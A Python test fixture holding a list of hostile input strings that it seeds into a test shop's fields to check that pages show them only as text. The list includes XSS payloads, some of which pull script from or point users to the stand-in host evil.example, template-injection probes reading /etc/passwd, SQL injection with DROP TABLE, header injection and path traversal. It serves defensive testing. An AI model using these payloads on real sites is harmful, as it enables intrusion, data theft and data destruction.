"""Values that a source may hold and that no page may take for anything but text."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.pipelines.shop import Shop
from tests.serving.site import WOMEN_WHO_MARRIED

if TYPE_CHECKING:
    from pathlib import Path

HOSTILE = (
    "<script>alert(document.domain)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(2)</script>",
    "</select><img src=x onerror=alert(3)>",
    "<img src=x onerror=alert(4)>",
    "<svg onload=alert(5)>",
    "<svg><animate onbegin=alert(6) attributeName=x dur=1s>",
    "<details open ontoggle=alert(7)>",
    "<body onload=alert(8)>",
    "<iframe srcdoc='<script>parent.alert(9)</script>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(10)>",
    '" autofocus onfocus=alert(11) x="',
    "' autofocus onfocus=alert(12) x='",
    '"><script>alert(13)</script>',
    "'><svg/onload=alert(14)>",
    "` onmouseover=alert(15)",
    "javascript:alert(16)",
    "JaVaScRiPt:alert(17)//",
    "data:text/html,<script>alert(18)</script>",
    "vbscript:msgbox(19)",
    "{{ 7 * 7 }}",
    "{{ self.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "{# comment #}",
    "${7*7}",
    "<%= 7 * 7 %>",
    "#{7*7}",
    "[[${7*7}]]",
    "--><script>alert(20)</script><!--",
    '<!--#exec cmd="id"-->',
    "]]><script>alert(21)</script>",
    "<?php echo 1 ?>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<a href=javascript:alert(22)>x</a>",
    "<form action=//evil.example><button>go",
    "<input type=image src=x onerror=alert(23)>",
    "<div hx-get=/account hx-trigger=load hx-target=body>",
    "<div hx-on:load=alert(24)>",
    "hx-vals='js:{x: alert(25)}'",
    "<template><script>alert(26)</script></template>",
    "&lt;script&gt;alert(27)&lt;/script&gt;",
    "&#60;script&#62;alert(28)&#60;/script&#62;",
    "\u202eevas\u202c reversed",
    "\u2066isolated\u2069 \u200fmarks\u200e",
    "a\u0000b",
    "bell\u0007 escape\u001b[31m",
    "line\u2028separator\u2029s",
    "zero\u200bwidth\ufeffs",
    "Z\u0351\u036b\u0343\u032a\u033c\u0342a\u0327\u0348l\u036cg\u0321o\u0489",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308",
    "\u7530\u4e2d\u3055\u3093 \u0645\u062d\u0645\u062f \u05d3\u05d5\u05d3",
    "\uff26\uff35\uff2c\uff2c \ufb01 \u2167",
    "undefined",
    "null",
    "None",
    "NaN",
    "true",
    "'; DROP TABLE customer; --",
    '" OR ""="',
    "1; ATTACH 'x' AS y",
    "%00%0d%0aSet-Cookie: x=1",
    "../../../../etc/passwd",
    '=HYPERLINK("//evil.example")',
    "x" * 5000,
    "word " * 400,
)


def hostile_shop(path: Path) -> Shop:
    """Return a shop of which every field holds such a value somewhere, and of whose cases many hold one."""
    shop = Shop(path)
    shop.populate(12, 11)
    for number, value in enumerate(HOSTILE):
        first, before, after, street = WOMEN_WHO_MARRIED[number % len(WOMEN_WHO_MARRIED)]
        phone = f"42555{70000 + number * 137}"
        shop.account(
            f"H{number}{value[:40]}",
            first_name=f"{first}{chr(97 + number % 26)}",
            last_name=f"{before} {value}",
            email=f"h{number}@mail.example",
            phone=phone,
            street=f"{number} {street} {value}",
            city=value,
            zip="98101",
        )
        shop.case(f"H{number}", name=f"{first} {before}", email=f"h{number}@mail.example", subject=value)
        shop.account(
            f"G{number}", first_name=f"{first}{chr(97 + number % 26)}", last_name=f"{after} {value}", phone=phone
        )
        shop.account(f"E{number}", first_name=value, last_name=value, email=value, phone=value, street=value, zip=value)
    return shop
